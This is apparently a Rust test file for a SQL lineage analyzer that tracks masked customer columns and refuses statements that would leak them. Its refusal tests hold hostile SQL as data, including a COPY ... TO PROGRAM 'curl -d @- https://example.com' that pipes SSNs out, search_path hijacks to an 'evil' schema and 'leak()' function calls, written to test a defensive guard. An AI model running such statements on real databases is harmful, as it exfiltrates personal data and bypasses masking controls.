//! Lineage over a small in-memory catalog:
//! `public.customers(id, name, email[0], ssn[1], profile[2])`, `public.orders(id,
//! customer_id, total)` and the view `public.customers_view(id, email[0])`.

use super::*;

struct TestSchema {
    relations: Vec<RelationInfo>,
}

/// Built-ins the tests call, as the catalog would classify them.
const PURE: &[&str] = &[
    "lower",
    "upper",
    "row_to_json",
    "to_json",
    "to_jsonb",
    "coalesce",
    "count",
    "length",
    "substr",
    "substring",
    "concat",
    "generate_series",
    "unnest",
    "now",
    "string_agg",
    "array_agg",
    "rank",
    "row_number",
    "max",
    "sum",
    "format",
    "json_to_record",
];
const SINKS: &[&str] = &["set_config", "pg_notify", "query_to_xml"];

impl Schema for TestSchema {
    fn relations(&self, schema: Option<&str>, name: &str) -> Vec<&RelationInfo> {
        self.relations
            .iter()
            .filter(|r| r.name == name && schema.is_none_or(|s| s == r.schema))
            .collect()
    }

    fn function(&self, schema: Option<&str>, name: &str) -> FunctionKind {
        let builtin = schema.is_none_or(|s| s == "pg_catalog");
        if builtin && PURE.contains(&name) {
            FunctionKind::Pure
        } else if builtin && SINKS.contains(&name) {
            FunctionKind::Sink
        } else {
            // `leak`, `public.leak` and anything unknown.
            FunctionKind::Opaque
        }
    }
}

fn col(name: &str, rules: &[RuleId]) -> ColumnInfo {
    ColumnInfo {
        name: name.to_owned(),
        taint: taint(rules),
    }
}

fn rel(schema: &str, name: &str, columns: Vec<ColumnInfo>) -> RelationInfo {
    RelationInfo {
        schema: schema.to_owned(),
        name: name.to_owned(),
        columns,
    }
}

fn schema() -> TestSchema {
    TestSchema {
        relations: vec![
            rel(
                "public",
                "customers",
                vec![
                    col("id", &[]),
                    col("name", &[]),
                    col("email", &[0]),
                    col("ssn", &[1]),
                    col("profile", &[2]),
                ],
            ),
            rel(
                "public",
                "orders",
                vec![col("id", &[]), col("customer_id", &[]), col("total", &[])],
            ),
            rel(
                "public",
                "customers_view",
                vec![col("id", &[]), col("email", &[0])],
            ),
        ],
    }
}

fn taint(rules: &[RuleId]) -> Taint {
    Taint(rules.iter().copied().collect())
}

/// A passed-through column carrying `rules`.
fn plain(rules: &[RuleId]) -> OutputTaint {
    OutputTaint {
        taint: taint(rules),
        derived: false,
    }
}

/// A computed column carrying `rules`.
fn derived(rules: &[RuleId]) -> OutputTaint {
    OutputTaint {
        taint: taint(rules),
        derived: true,
    }
}

fn analyze_one(sql: &str) -> Lineage {
    let mut all = analyze(sql, &schema());
    assert_eq!(all.len(), 1, "{sql}: {all:?}");
    all.remove(0)
}

/// The lineage of an allowed statement.
fn allowed(sql: &str) -> Lineage {
    let lineage = analyze_one(sql);
    assert_eq!(lineage.refusal, None, "{sql}");
    lineage
}

/// The output columns of an allowed statement.
fn known(sql: &str) -> Vec<OutputTaint> {
    match allowed(sql).outputs {
        Outputs::Known(cols) => cols,
        other => panic!("{sql}: expected known outputs, got {other:?}"),
    }
}

/// The refusal reason of a refused statement.
fn refused(sql: &str) -> String {
    match analyze_one(sql).refusal {
        Some(reason) => reason,
        None => panic!("{sql}: expected a refusal"),
    }
}

fn predicates(sql: &str) -> Vec<(Clause, Taint)> {
    allowed(sql).predicates
}

// ----- outputs ---------------------------------------------------------------------------

#[test]
fn select_star_passes_each_column_through() {
    assert_eq!(
        known("SELECT * FROM customers"),
        vec![
            plain(&[]),
            plain(&[]),
            plain(&[0]),
            plain(&[1]),
            plain(&[2])
        ]
    );
    assert_eq!(
        known("SELECT c.* FROM customers c"),
        known("SELECT * FROM public.customers")
    );
    assert_eq!(known("TABLE orders"), vec![plain(&[]); 3]);
}

#[test]
fn aliases_resolve_to_their_columns() {
    assert_eq!(
        known("SELECT c.email AS e FROM customers c"),
        vec![plain(&[0])]
    );
    assert_eq!(
        known("SELECT customers.ssn FROM customers"),
        vec![plain(&[1])]
    );
    assert_eq!(
        known("SELECT public.customers.email FROM customers"),
        vec![plain(&[0])]
    );
    // Column aliases rename in order; `c` is both the alias and a column: the column wins.
    assert_eq!(
        known("SELECT b, c FROM customers AS c(a, b, c)"),
        vec![plain(&[]), plain(&[0])]
    );
}

#[test]
fn subqueries_and_ctes_keep_plain_columns_plain() {
    assert_eq!(
        known("SELECT e FROM (SELECT email AS e FROM customers) s"),
        vec![plain(&[0])]
    );
    assert_eq!(
        known("SELECT s.x FROM (SELECT lower(email) AS x FROM customers) s"),
        vec![derived(&[0])]
    );
    assert_eq!(
        known("WITH m AS (SELECT id, ssn FROM customers) SELECT * FROM m"),
        vec![plain(&[]), plain(&[1])]
    );
    assert_eq!(
        known("WITH m(a, b) AS (SELECT id, ssn FROM customers) SELECT b FROM m"),
        vec![plain(&[1])]
    );
}

#[test]
fn a_cte_shadows_a_relation_of_the_same_name() {
    assert_eq!(
        known("WITH customers AS (SELECT 1 AS email) SELECT email FROM customers"),
        vec![derived(&[])]
    );
}

#[test]
fn recursive_cte_carries_taint_around_the_loop() {
    let cols = known(
        "WITH RECURSIVE r(n, e) AS (SELECT 1, email FROM customers \
         UNION ALL SELECT n + 1, e FROM r WHERE n < 3) SELECT n, e FROM r",
    );
    assert_eq!(cols, vec![derived(&[]), derived(&[0])]);
    // The masked value enters only through the recursive arm.
    let cols = known(
        "WITH RECURSIVE r(n, e) AS (SELECT 1, 'x' UNION ALL \
         SELECT n + 1, (SELECT ssn FROM customers LIMIT 1) FROM r WHERE n < 3) SELECT e FROM r",
    );
    assert_eq!(cols, vec![derived(&[1])]);
}

#[test]
fn joins_combine_both_sides() {
    let cols = known("SELECT * FROM customers JOIN orders ON orders.customer_id = customers.id");
    assert_eq!(cols.len(), 8);
    assert_eq!(cols[2], plain(&[0]));
    // USING merges the column and filters on it.
    let lineage = allowed("SELECT * FROM customers c JOIN customers_view v USING (email)");
    assert_eq!(
        lineage.outputs,
        Outputs::Known(vec![
            plain(&[0]),
            plain(&[]),
            plain(&[]),
            plain(&[1]),
            plain(&[2]),
            plain(&[]),
        ])
    );
    assert_eq!(lineage.predicates, vec![(Clause::Join, taint(&[0]))]);
    // NATURAL joins on the common names (id, email here).
    let lineage = allowed("SELECT * FROM customers NATURAL JOIN customers_view");
    assert_eq!(lineage.predicates, vec![(Clause::Join, taint(&[0]))]);
    match lineage.outputs {
        Outputs::Known(cols) => assert_eq!(cols.len(), 5),
        other => panic!("{other:?}"),
    }
    // An aliased join hides its sides but keeps their columns.
    assert_eq!(
        known("SELECT j.ssn FROM (customers c JOIN orders o ON c.id = o.customer_id) AS j"),
        vec![plain(&[1])]
    );
}

#[test]
fn lateral_items_see_their_left_siblings() {
    assert_eq!(
        known("SELECT x FROM customers c, LATERAL (SELECT c.email AS x) s"),
        vec![plain(&[0])]
    );
    assert_eq!(
        known("SELECT e FROM customers c CROSS JOIN LATERAL unnest(ARRAY[c.ssn]) AS e"),
        vec![derived(&[1])]
    );
    assert_eq!(
        known("SELECT s.ssn FROM customers c JOIN LATERAL (SELECT c.ssn) s ON true"),
        vec![plain(&[1])]
    );
}

#[test]
fn join_edge_cases() {
    // A FULL JOIN's merged column is a COALESCE of both sides.
    assert_eq!(
        known("SELECT email FROM customers FULL JOIN customers_view USING (email)"),
        vec![derived(&[0])]
    );
    // NATURAL JOIN with a side of unknown columns may join on any column.
    let lineage = allowed("SELECT * FROM customers_view NATURAL JOIN audit_log");
    assert_eq!(lineage.outputs, Outputs::Unknown(derived(&[0])));
    assert_eq!(lineage.predicates, vec![(Clause::Join, taint(&[0]))]);
    // The USING alias names the merged columns only.
    assert_eq!(
        known("SELECT j.email FROM customers c JOIN customers_view v USING (email) AS j"),
        vec![plain(&[0])]
    );
}

#[test]
fn data_modifying_ctes_return_their_rows() {
    let lineage =
        allowed("WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING ssn) SELECT * FROM d");
    assert_eq!(lineage.outputs, Outputs::Known(vec![plain(&[1])]));
    refused(
        "WITH u AS (UPDATE orders SET total = 0 RETURNING id) \
         UPDATE customers SET name = ssn WHERE id IN (SELECT id FROM u)",
    );
}

#[test]
fn aggregate_order_sorts_on_values() {
    let lineage = allowed("SELECT string_agg(name, ',' ORDER BY ssn) FROM customers");
    assert_eq!(lineage.outputs, Outputs::Known(vec![derived(&[1])]));
    assert_eq!(lineage.predicates, vec![(Clause::OrderBy, taint(&[1]))]);
}

#[test]
fn views_carry_their_columns_rules() {
    assert_eq!(
        known("SELECT id, email FROM customers_view"),
        vec![plain(&[]), plain(&[0])]
    );
}

#[test]
fn expressions_are_derived() {
    assert_eq!(
        known("SELECT lower(email) FROM customers"),
        vec![derived(&[0])]
    );
    assert_eq!(
        known("SELECT email || '' FROM customers"),
        vec![derived(&[0])]
    );
    assert_eq!(
        known("SELECT ssn::text FROM customers"),
        vec![derived(&[1])]
    );
    assert_eq!(
        known("SELECT CASE WHEN id > 1 THEN email ELSE name END FROM customers"),
        vec![derived(&[0])]
    );
    assert_eq!(
        known("SELECT coalesce(ssn, 'none'), ROW(id, email) FROM customers"),
        vec![derived(&[1]), derived(&[0])]
    );
    assert_eq!(
        known("SELECT string_agg(email, ',') FROM customers"),
        vec![derived(&[0])]
    );
    assert_eq!(known("SELECT 1, 'x', $1"), vec![derived(&[]); 3]);
}

#[test]
fn whole_row_references_carry_every_column() {
    assert_eq!(
        known("SELECT row_to_json(c) FROM customers c"),
        vec![derived(&[0, 1, 2])]
    );
    assert_eq!(
        known("SELECT c FROM customers c"),
        vec![derived(&[0, 1, 2])]
    );
    assert_eq!(
        known("SELECT to_jsonb(customers.*) FROM customers"),
        vec![derived(&[0, 1, 2])]
    );
    assert_eq!(
        known("SELECT c::text FROM customers c"),
        vec![derived(&[0, 1, 2])]
    );
    // A field of a whole row is just that column.
    assert_eq!(
        known("SELECT (c).email FROM customers c"),
        vec![derived(&[0])]
    );
}

#[test]
fn jsonb_paths_carry_the_json_column() {
    assert_eq!(
        known("SELECT profile->'contact'->>'email' FROM customers"),
        vec![derived(&[2])]
    );
}

#[test]
fn scalar_subqueries_carry_their_output() {
    assert_eq!(
        known("SELECT (SELECT email FROM customers LIMIT 1)"),
        vec![derived(&[0])]
    );
    // EXISTS yields a boolean: its filter is a predicate, not the value.
    let lineage = allowed("SELECT EXISTS (SELECT * FROM customers WHERE ssn = '1')");
    assert_eq!(lineage.outputs, Outputs::Known(vec![derived(&[])]));
    assert_eq!(lineage.predicates, vec![(Clause::Where, taint(&[1]))]);
    assert_eq!(lineage.touches, taint(&[0, 1, 2]));
}

#[test]
fn correlated_subqueries_see_outer_columns() {
    assert_eq!(
        known(
            "SELECT o.id, (SELECT c.email FROM customers c WHERE c.id = o.customer_id) \
             FROM orders o"
        ),
        vec![plain(&[]), derived(&[0])]
    );
    assert_eq!(
        known("SELECT (SELECT email) FROM customers"),
        vec![derived(&[0])]
    );
    // An inner column of unknown name does not hide the outer column.
    assert_eq!(
        known("SELECT (SELECT email FROM (SELECT xmlconcat('<a/>')) s) FROM customers"),
        vec![derived(&[0])]
    );
}

#[test]
fn set_operations_union_their_arms() {
    assert_eq!(
        known("SELECT email FROM customers UNION SELECT 'x'"),
        vec![derived(&[0])]
    );
    assert_eq!(
        known("SELECT 'x' UNION ALL (SELECT ssn FROM customers EXCEPT SELECT name FROM customers)"),
        vec![derived(&[1])]
    );
    assert_eq!(
        known("SELECT id FROM orders INTERSECT SELECT id FROM customers"),
        vec![plain(&[])]
    );
    assert_eq!(
        known("SELECT ssn FROM customers INTERSECT SELECT 'x'"),
        vec![derived(&[1])]
    );
}

#[test]
fn values_carry_their_expressions() {
    assert_eq!(known("VALUES (1, 'a'), (2, 'b')"), vec![derived(&[]); 2]);
    assert_eq!(
        known("SELECT column2 FROM (VALUES (1, (SELECT ssn FROM customers LIMIT 1))) v"),
        vec![derived(&[1])]
    );
}

#[test]
fn aggregates_over_masked_rows_are_untainted() {
    assert_eq!(known("SELECT count(*) FROM customers"), vec![derived(&[])]);
    // ... unless they filter on a masked column.
    let lineage = allowed("SELECT count(*) FILTER (WHERE email LIKE 'a%') FROM customers");
    assert_eq!(lineage.outputs, Outputs::Known(vec![derived(&[0])]));
    assert_eq!(lineage.predicates, vec![(Clause::Where, taint(&[0]))]);
}

#[test]
fn functions_in_from_have_unknown_width() {
    assert_eq!(
        allowed("SELECT * FROM generate_series(1, 3)").outputs,
        Outputs::Unknown(derived(&[]))
    );
    assert_eq!(
        allowed("SELECT * FROM unnest(ARRAY[(SELECT ssn FROM customers LIMIT 1)]) AS u").outputs,
        Outputs::Unknown(derived(&[1]))
    );
    assert_eq!(
        known("SELECT u FROM unnest(ARRAY[(SELECT ssn FROM customers LIMIT 1)]) AS u"),
        vec![derived(&[1])]
    );
    // A column definition list fixes the columns.
    assert_eq!(
        known(
            "SELECT * FROM customers c, LATERAL json_to_record(row_to_json(c)) AS r(email text) \
             WHERE false"
        )
        .len(),
        6
    );
}

#[test]
fn star_over_an_omitted_relation_is_unknown() {
    assert_eq!(
        allowed("SELECT * FROM audit_log").outputs,
        Outputs::Unknown(derived(&[]))
    );
    assert_eq!(
        allowed("SELECT * FROM audit_log, customers").outputs,
        Outputs::Unknown(derived(&[0, 1, 2]))
    );
    // A named column of the omitted relation carries nothing.
    assert_eq!(
        known("SELECT action, a.at, email FROM audit_log a, customers"),
        vec![plain(&[]), plain(&[]), plain(&[0])]
    );
}

#[test]
fn unknown_output_names_match_any_reference() {
    // The walker does not mirror PostgreSQL's name for every expression: such a column
    // answers to any name.
    assert_eq!(
        known("SELECT whatever FROM (SELECT xmlconcat(email::xml) FROM customers) s"),
        vec![derived(&[0])]
    );
    assert_eq!(
        known("SELECT s.whatever FROM (SELECT xmlconcat(email::xml) FROM customers) s"),
        vec![derived(&[0])]
    );
}

#[test]
fn several_relations_of_one_name_are_unioned() {
    let mut catalog = schema();
    catalog.relations.push(rel(
        "archive",
        "customers",
        vec![col("id", &[]), col("email", &[3])],
    ));
    let lineage = analyze("SELECT email FROM customers", &catalog).remove(0);
    assert_eq!(lineage.outputs, Outputs::Known(vec![plain(&[0, 3])]));
    // Their columns differ, so `*` has an unknown width.
    let lineage = analyze("SELECT * FROM customers", &catalog).remove(0);
    assert_eq!(lineage.outputs, Outputs::Unknown(derived(&[0, 1, 2, 3])));
    let lineage = analyze("SELECT * FROM archive.customers", &catalog).remove(0);
    assert_eq!(
        lineage.outputs,
        Outputs::Known(vec![plain(&[]), plain(&[3])])
    );
}

// ----- predicates and touches ------------------------------------------------------------

#[test]
fn where_predicates_do_not_taint_outputs() {
    let lineage = allowed("SELECT id FROM customers WHERE email LIKE 'a%'");
    assert_eq!(lineage.outputs, Outputs::Known(vec![plain(&[])]));
    assert_eq!(lineage.predicates, vec![(Clause::Where, taint(&[0]))]);
    assert_eq!(lineage.touches, taint(&[0]));
}

#[test]
fn join_group_order_and_window_clauses_are_recorded() {
    assert_eq!(
        predicates("SELECT o.id FROM orders o JOIN customers c ON c.email = o.total::text"),
        vec![(Clause::Join, taint(&[0]))]
    );
    assert_eq!(
        predicates("SELECT count(*) FROM customers GROUP BY email"),
        vec![(Clause::GroupBy, taint(&[0]))]
    );
    assert_eq!(
        predicates("SELECT id FROM customers ORDER BY ssn DESC"),
        vec![(Clause::OrderBy, taint(&[1]))]
    );
    assert_eq!(
        predicates("SELECT DISTINCT ON (ssn) id FROM customers"),
        vec![(Clause::GroupBy, taint(&[1]))]
    );
    let lineage = allowed("SELECT rank() OVER (PARTITION BY email ORDER BY id) FROM customers");
    assert_eq!(lineage.predicates, vec![(Clause::OrderBy, taint(&[0]))]);
    assert_eq!(lineage.outputs, Outputs::Known(vec![derived(&[0])]));
    let lineage = allowed("SELECT row_number() OVER w FROM customers WINDOW w AS (ORDER BY ssn)");
    assert_eq!(lineage.predicates, vec![(Clause::OrderBy, taint(&[1]))]);
    assert_eq!(lineage.outputs, Outputs::Known(vec![derived(&[1])]));
}

#[test]
fn output_positions_and_aliases_in_order_and_group_by() {
    assert_eq!(
        predicates("SELECT email, id FROM customers ORDER BY 1"),
        vec![(Clause::OrderBy, taint(&[0]))]
    );
    assert_eq!(
        predicates("SELECT lower(ssn) AS k, count(*) FROM customers GROUP BY k"),
        vec![(Clause::GroupBy, taint(&[1]))]
    );
    assert_eq!(
        predicates("SELECT lower(ssn), count(*) FROM customers GROUP BY 1 ORDER BY 2"),
        vec![(Clause::GroupBy, taint(&[1]))]
    );
    assert_eq!(
        predicates("SELECT email FROM customers UNION SELECT name FROM customers ORDER BY 1"),
        vec![(Clause::OrderBy, taint(&[0]))]
    );
}

#[test]
fn predicates_are_found_in_subqueries_and_merged_per_clause() {
    let lineage = allowed(
        "SELECT id FROM orders WHERE customer_id IN \
         (SELECT id FROM customers WHERE email = 'a' OR ssn = 'b') AND total > 0 \
         ORDER BY (SELECT profile FROM customers LIMIT 1)",
    );
    assert_eq!(
        lineage.predicates,
        vec![
            (Clause::Where, taint(&[0, 1])),
            (Clause::OrderBy, taint(&[2]))
        ]
    );
    assert_eq!(
        predicates("SELECT id FROM orders LIMIT (SELECT length(ssn) FROM customers LIMIT 1)"),
        vec![(Clause::Where, taint(&[1]))]
    );
}

#[test]
fn touches_include_columns_read_anywhere() {
    let lineage = allowed(
        "WITH x AS (SELECT id FROM customers WHERE ssn IS NOT NULL) \
         SELECT o.id FROM orders o JOIN x ON x.id = o.customer_id",
    );
    assert_eq!(lineage.outputs, Outputs::Known(vec![plain(&[])]));
    assert_eq!(lineage.touches, taint(&[1]));
    assert_eq!(allowed("SELECT 1 FROM customers").touches, Taint::none());
}

#[test]
fn statements_over_unmasked_tables_are_untainted() {
    let lineage = allowed(
        "SELECT o.id, sum(total) OVER (PARTITION BY customer_id ORDER BY id), lower(o.id::text) \
         FROM orders o WHERE total > 10 GROUP BY o.id ORDER BY 1",
    );
    assert_eq!(
        lineage.outputs,
        Outputs::Known(vec![plain(&[]), derived(&[]), derived(&[])])
    );
    assert!(lineage.predicates.is_empty());
    assert_eq!(lineage.touches, Taint::none());
    let lineage = allowed("UPDATE orders SET total = total + 1 WHERE id = 3");
    assert_eq!(lineage.outputs, Outputs::None);
    assert_eq!(lineage.touches, Taint::none());
}

// ----- data-modifying statements ---------------------------------------------------------

#[test]
fn insert_of_masked_values_is_refused() {
    let reason = refused("INSERT INTO orders (id) SELECT email FROM customers");
    assert!(reason.contains("INSERT"), "{reason}");
    assert!(reason.contains("public.customers.email"), "{reason}");
    assert!(reason.contains("public.orders"), "{reason}");
    refused("INSERT INTO audit_log VALUES ((SELECT ssn FROM customers LIMIT 1))");
    refused("WITH x AS (SELECT * FROM customers) INSERT INTO audit_log SELECT * FROM x");
    // Filtering on a masked column is a predicate, not a copy.
    let lineage = allowed("INSERT INTO audit_log SELECT id FROM customers WHERE email LIKE 'a%'");
    assert_eq!(lineage.outputs, Outputs::None);
    assert_eq!(lineage.predicates, vec![(Clause::Where, taint(&[0]))]);
    allowed("INSERT INTO customers (id, email) VALUES (1, 'a@example.com')");
}

#[test]
fn update_copying_masked_values_is_refused() {
    let reason = refused("UPDATE orders o SET total = length(c.email) FROM customers c");
    assert!(reason.contains("public.customers.email"), "{reason}");
    assert!(reason.contains("public.orders.total"), "{reason}");
    let reason = refused("UPDATE customers SET name = email");
    assert!(reason.contains("public.customers.name"), "{reason}");
    refused("UPDATE orders SET total = (SELECT length(ssn) FROM customers LIMIT 1)");
    refused(
        "INSERT INTO customers (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = customers.ssn",
    );
}

#[test]
fn returning_lists_are_outputs() {
    let lineage = allowed("UPDATE customers SET name = 'x' WHERE id = 1 RETURNING email");
    assert_eq!(lineage.outputs, Outputs::Known(vec![plain(&[0])]));
    assert_eq!(
        known("DELETE FROM customers WHERE ssn = '1' RETURNING id, lower(ssn)"),
        vec![plain(&[]), derived(&[1])]
    );
    assert_eq!(
        known("UPDATE customers SET name = 'x' RETURNING old.email, new.*").len(),
        6
    );
    // ON CONFLICT's `excluded` row is not part of RETURNING *.
    let lineage =
        allowed("INSERT INTO customers (id) VALUES (1) ON CONFLICT (email) DO NOTHING RETURNING *");
    match lineage.outputs {
        Outputs::Known(cols) => assert_eq!(cols.len(), 5),
        other => panic!("{other:?}"),
    }
    // The conflict target tests the existing rows' values.
    assert_eq!(lineage.predicates, vec![(Clause::Where, taint(&[0]))]);
    let lineage = allowed("DELETE FROM orders WHERE id = 1");
    assert_eq!(lineage.outputs, Outputs::None);
    // Errors raised by a write can show the row.
    assert_eq!(
        allowed("UPDATE customers SET name = 'x' WHERE id = 1").touches,
        taint(&[0, 1, 2])
    );
}

#[test]
fn merge_with_masked_source_values_is_refused() {
    refused(
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id \
         WHEN MATCHED THEN UPDATE SET total = length(c.ssn)",
    );
    refused(
        "MERGE INTO audit_log a USING customers c ON a.id = c.id \
         WHEN NOT MATCHED THEN INSERT VALUES (c.email)",
    );
    let lineage = allowed(
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id AND c.email = 'x' \
         WHEN MATCHED THEN UPDATE SET total = 0",
    );
    assert_eq!(lineage.predicates, vec![(Clause::Join, taint(&[0]))]);
}

// ----- statements that store or hide results ---------------------------------------------

#[test]
fn create_table_as_and_select_into_over_masked_columns_are_refused() {
    let reason = refused("CREATE TABLE loot AS SELECT id FROM customers WHERE ssn LIKE '1%'");
    assert!(reason.contains("public.customers.ssn"), "{reason}");
    refused("SELECT email INTO loot FROM customers");
    refused("CREATE MATERIALIZED VIEW m AS SELECT lower(email) FROM customers");
    allowed("CREATE TABLE t AS SELECT * FROM orders");
    // A prepared statement may come from the extended protocol, unseen here.
    refused("CREATE TABLE t AS EXECUTE p");
}

#[test]
fn views_over_masked_columns_are_refused() {
    let reason = refused("CREATE VIEW v AS SELECT email FROM customers");
    assert!(reason.contains("CREATE VIEW"), "{reason}");
    let lineage = allowed("CREATE VIEW v AS SELECT id, total FROM orders");
    assert_eq!(lineage.outputs, Outputs::None);
}

#[test]
fn copy() {
    let reason = refused("COPY (SELECT email FROM customers) TO STDOUT");
    assert!(reason.contains("use a plain SELECT"), "{reason}");
    assert_eq!(
        allowed("COPY customers TO STDOUT").outputs,
        Outputs::Known(vec![
            plain(&[]),
            plain(&[]),
            plain(&[0]),
            plain(&[1]),
            plain(&[2])
        ])
    );
    assert_eq!(
        allowed("COPY customers (ssn, id) TO STDOUT (FORMAT text)").outputs,
        Outputs::Known(vec![plain(&[1]), plain(&[])])
    );
    assert_eq!(
        allowed("COPY audit_log TO STDOUT").outputs,
        Outputs::Unknown(OutputTaint::default())
    );
    assert_eq!(allowed("COPY customers FROM STDIN").outputs, Outputs::None);
    refused("COPY customers TO '/tmp/customers.csv'");
    refused("COPY customers (ssn) TO PROGRAM 'curl -d @- https://example.com'");
    assert_eq!(
        allowed("COPY (SELECT id FROM orders) TO '/tmp/orders.csv'").outputs,
        Outputs::None
    );
    assert_eq!(
        allowed("COPY (SELECT id FROM orders) TO STDOUT").outputs,
        Outputs::Known(vec![plain(&[])])
    );
}

#[test]
fn cursors_and_prepared_statements_over_masked_columns_are_refused() {
    let reason = refused("DECLARE c CURSOR FOR SELECT email FROM customers");
    assert!(reason.contains("use a plain SELECT"), "{reason}");
    let reason = refused("PREPARE p AS SELECT id FROM customers WHERE ssn = $1");
    assert!(reason.contains("PREPARE"), "{reason}");
    allowed("DECLARE c CURSOR FOR SELECT * FROM orders");
    allowed("PREPARE p AS SELECT * FROM orders WHERE id = $1");
    assert_eq!(
        allowed("EXECUTE p(1)").outputs,
        Outputs::Unknown(OutputTaint::default())
    );
    assert_eq!(
        allowed("FETCH 10 FROM c").outputs,
        Outputs::Unknown(OutputTaint::default())
    );
    refused("EXECUTE p((SELECT email FROM customers LIMIT 1))");
}

#[test]
fn explain_carries_what_the_statement_reads() {
    let lineage = allowed("EXPLAIN SELECT id FROM customers WHERE email = 'x'");
    assert_eq!(lineage.outputs, Outputs::Unknown(derived(&[0])));
    refused("EXPLAIN ANALYZE INSERT INTO audit_log SELECT ssn FROM customers");
}

// ----- code, functions and settings ------------------------------------------------------

#[test]
fn do_and_call_are_refused() {
    assert!(refused("DO $$ BEGIN PERFORM 1; END $$").contains("DO"));
    assert!(refused("CALL refresh_everything()").contains("CALL"));
    refused("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'");
}

#[test]
fn opaque_functions_are_refused_anywhere() {
    let reason = refused("SELECT leak()");
    assert!(reason.contains("leak()"), "{reason}");
    let reason = refused("SELECT public.leak()");
    assert!(reason.contains("public.leak()"), "{reason}");
    refused("SELECT id FROM orders WHERE total > leak()");
    refused("SELECT * FROM leak() AS l");
    // Attribute notation: `c.leak` calls leak(c).
    refused("SELECT c.leak FROM customers c");
    refused("SELECT 1 OPERATOR(public.+) 2");
}

#[test]
fn sinks_given_masked_data_are_refused() {
    let reason = refused("SELECT set_config('app.x', email, false) FROM customers");
    assert!(reason.contains("public.customers.email"), "{reason}");
    let reason = refused("SELECT pg_notify('c', email) FROM customers");
    assert!(reason.contains("pg_notify"), "{reason}");
    allowed("SELECT pg_notify('c', 'done')");
    allowed("SELECT set_config('app.x', 'y', false)");
    refused("SELECT pg_notify('c', (SELECT ssn FROM customers LIMIT 1))");
    // Running SQL text is refused whatever it says.
    refused("SELECT query_to_xml('SELECT email FROM customers', true, false, '')");
}

#[test]
fn search_path_changes_are_refused() {
    assert!(
        refused("SELECT set_config('search_path', 'evil, pg_catalog', false)")
            .contains("search_path")
    );
    refused("SELECT set_config('Search_Path ', 'evil', false)");
    refused("SELECT set_config(name, 'x', false) FROM orders");
    assert!(refused("SET search_path TO evil, public").contains("search_path"));
    refused("SET LOCAL search_path = evil");
    refused("SET SCHEMA 'evil'");
    refused("RESET search_path");
    refused("RESET ALL");
    refused("ALTER ROLE agent SET search_path = evil");
    refused("DISCARD ALL");
    allowed("SET statement_timeout = '5s'");
    allowed("RESET statement_timeout");
    assert_eq!(
        allowed("SHOW search_path").outputs,
        Outputs::Unknown(OutputTaint::default())
    );
}

#[test]
fn ddl_that_copies_or_exposes_masked_columns_is_refused() {
    refused("ALTER TABLE customers ALTER COLUMN name TYPE text USING email");
    refused("ALTER TABLE customers ADD COLUMN e2 text GENERATED ALWAYS AS (lower(email)) STORED");
    refused("ALTER TABLE customers RENAME COLUMN email TO contact");
    refused("ALTER TABLE customers INHERIT people");
    allowed("ALTER TABLE customers RENAME COLUMN name TO full_name");
    allowed("ALTER TABLE orders ADD COLUMN note text");
    refused("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()");
    refused("CREATE RULE r AS ON INSERT TO orders DO ALSO NOTIFY c");
    refused("CREATE PUBLICATION p FOR TABLE customers");
    refused("ALTER TABLE customers SET SCHEMA hidden");
    refused("ALTER TABLE parent ATTACH PARTITION customers DEFAULT");
    assert_eq!(
        allowed("VACUUM ANALYZE customers").touches,
        taint(&[0, 1, 2])
    );
    refused("CREATE INDEX ON orders (leak(id))");
    refused("CREATE SCHEMA s CREATE VIEW v AS SELECT email FROM customers");
    refused("CREATE POLICY p ON customers USING (email LIKE '%@example.com')");
    allowed("CREATE POLICY p ON customers USING (id > 10)");
}

// ----- texts -----------------------------------------------------------------------------

#[test]
fn each_statement_of_a_text_has_its_lineage() {
    let all = analyze(
        "SELECT email FROM customers; SELECT id FROM orders; DO $$ BEGIN END $$",
        &schema(),
    );
    assert_eq!(all.len(), 3);
    assert_eq!(all[0].outputs, Outputs::Known(vec![plain(&[0])]));
    assert_eq!(all[1].outputs, Outputs::Known(vec![plain(&[])]));
    assert_eq!(all[0].refusal, None);
    assert!(all[2].refusal.is_some());
}

#[test]
fn unparseable_text_is_unknown_and_untainted() {
    let all = analyze("SELEC email FROM customers", &schema());
    assert_eq!(
        all,
        vec![Lineage {
            outputs: Outputs::Unknown(OutputTaint::default()),
            predicates: Vec::new(),
            touches: Taint::none(),
            refusal: None,
        }]
    );
}

#[test]
fn deep_nesting_does_not_panic_and_fails_closed() {
    for depth in [10, 40, 100, 400, 2000] {
        let sql = format!(
            "SELECT {}email{} FROM customers",
            "lower(".repeat(depth),
            ")".repeat(depth)
        );
        let lineage = analyze_one(&sql);
        if lineage.refusal.is_none() {
            assert_eq!(
                lineage.outputs,
                Outputs::Known(vec![derived(&[0])]),
                "{depth}"
            );
        }
        let sql = format!(
            "SELECT {}email{}",
            "(SELECT ".repeat(depth),
            " FROM customers LIMIT 1)".repeat(depth)
        );
        let lineage = analyze_one(&sql);
        if lineage.refusal.is_none() {
            assert_eq!(
                lineage.outputs,
                Outputs::Known(vec![derived(&[0])]),
                "{depth}"
            );
        }
    }
    // Past the parser's own limit the statement is refused, not passed as unknown.
    let sql = format!(
        "SELECT {}email{} FROM customers",
        "lower(".repeat(300),
        ")".repeat(300)
    );
    assert!(analyze_one(&sql).refusal.is_some());
}

#[test]
fn odd_inputs_do_not_panic() {
    for sql in [
        "",
        ";",
        "SELECT",
        "SELECT * FROM",
        "SELECT *",
        "SELECT x.* FROM customers",
        "SELECT a.b.c.d.e FROM customers",
        "SELECT (customers).email FROM customers",
        "SELECT ARRAY(SELECT ssn FROM customers)",
        "SELECT xmlelement(name a, email) FROM customers",
        "SELECT json_object('k': email) FROM customers",
        "SELECT * FROM JSON_TABLE('[]'::jsonb, '$[*]' COLUMNS (a text PATH '$.a')) jt",
        "SELECT * FROM XMLTABLE('/r' PASSING '<r/>'::xml COLUMNS a text PATH 'a') x",
        "SELECT * FROM customers TABLESAMPLE BERNOULLI (10)",
        "SELECT GROUPING(email), count(*) FROM customers GROUP BY ROLLUP (email, name)",
        "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM a",
        "LISTEN x; NOTIFY x, 'y'; BEGIN; COMMIT",
    ] {
        let _ = analyze(sql, &schema());
    }
    assert_eq!(
